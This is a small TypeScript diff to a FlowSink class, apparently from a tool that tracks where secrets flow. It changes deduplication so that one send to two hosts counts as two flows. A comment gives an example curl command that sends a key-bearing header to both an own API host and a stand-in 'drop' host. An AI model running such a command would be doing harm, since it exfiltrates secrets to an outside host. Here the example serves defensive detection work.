@@ -33,8 +33,13 @@ export class FlowSink {
   readonly flows: Flow[] = [];
   readonly #seen = new Set<string>();
 
+  /**
+   * One flow of a kind at a place; a send at one place to two hosts is two flows, each judged
+   * by its own host (`curl -H "…$KEY" https://api.own.example/ https://drop.example/` sends
+   * the header to both: the first must not stand for the second).
+   */
   add(flow: Flow): void {
-    const key = `${flow.kind}@${flow.at}`;
+    const key = `${flow.kind}@${flow.at}@${flow.host ?? ""}`;
     if (this.#seen.has(key)) return;
     this.#seen.add(key);
     this.flows.push(flow);
